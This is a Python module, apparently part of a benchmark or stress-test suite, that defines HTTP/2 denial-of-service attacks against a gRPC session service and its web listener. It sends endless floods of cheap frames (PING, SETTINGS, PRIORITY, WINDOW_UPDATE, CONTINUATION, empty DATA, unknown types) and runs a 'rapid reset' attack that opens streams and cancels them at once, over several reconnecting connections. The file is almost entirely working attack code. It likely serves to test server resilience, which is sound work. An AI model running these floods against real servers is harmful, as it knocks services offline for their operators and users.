"""Frames of HTTP/2 that cost their sender nothing, at both listeners."""

import asyncio
import contextlib
import itertools
from functools import partial

from bench.attacks.attack import Attack, Target
from bench.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    UNKNOWN,
    WINDOW_UPDATE,
    call,
    frame,
    wire,
)

CONNECTIONS = 4
_MANY = 20_000

_FLOODS = {
    "pings": frame(PING, 0, 0, b"12345678") * _MANY,
    "settings": frame(SETTINGS, 0, 0) * _MANY,
    "priorities": frame(PRIORITY, 0, 7, b"\0\0\0\0\x10") * _MANY,
    "unknown": frame(UNKNOWN, 0, 0) * _MANY,
    "windows": frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * _MANY,
    "empty_data": frame(DATA, 0, 1) * _MANY,
    "continuations": frame(CONTINUATION, 0, 1) * _MANY,
}
_ON_A_STREAM = {"empty_data": END_HEADERS, "continuations": 0}


async def _flood(target: Target, kind: str, *, web: bool) -> None:
    content_type = "application/json" if web else "application/grpc"
    begin = b""
    if kind in _ON_A_STREAM:
        path = "/opencode.session.SessionService/GetSession"
        begin = frame(HEADERS, _ON_A_STREAM[kind], 1, call(path, content_type))
    opened = [0]

    async def again() -> None:
        while True:
            opened[0] += 1
            with contextlib.suppress(ConnectionError):
                async with wire(target.host_and_port(web=web)) as one:
                    await one.send(begin)
                    while True:
                        await one.send(_FLOODS[kind])
            await asyncio.sleep(0.01)

    try:
        await asyncio.gather(*(again() for _ in range(CONNECTIONS)))
    finally:
        print(f"connections: {opened[0]}")


async def _resets(target: Target, *, web: bool) -> None:
    """Begins calls and resets them at once."""
    content_type = "application/json" if web else "application/grpc"
    head = call("/opencode.session.SessionService/GetSession", content_type)
    opened, sent = [0], [0]

    async def again() -> None:
        while True:
            opened[0] += 1
            with contextlib.suppress(ConnectionError):
                async with wire(target.host_and_port(web=web)) as one:
                    numbers = itertools.count(1, 2)
                    while True:
                        batch = []
                        for stream in itertools.islice(numbers, 100):
                            batch.append(frame(HEADERS, END_HEADERS, stream, head))
                            batch.append(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                        await one.send(b"".join(batch))
                        sent[0] += 100
            await asyncio.sleep(0.01)

    try:
        await asyncio.gather(*(again() for _ in range(CONNECTIONS)))
    finally:
        print(f"connections: {opened[0]}, calls: {sent[0]}")


ATTACKS = (
    Attack("rapid_reset", "calls that are reset at once", partial(_resets, web=False)),
    Attack("web_rapid_reset", "the same, at the web listener", partial(_resets, web=True)),
    *(Attack(f"{kind}", f"frames: {kind}", partial(_flood, kind=kind, web=False)) for kind in _FLOODS),
    *(Attack(f"web_{kind}", f"frames: {kind}", partial(_flood, kind=kind, web=True)) for kind in _FLOODS),
)
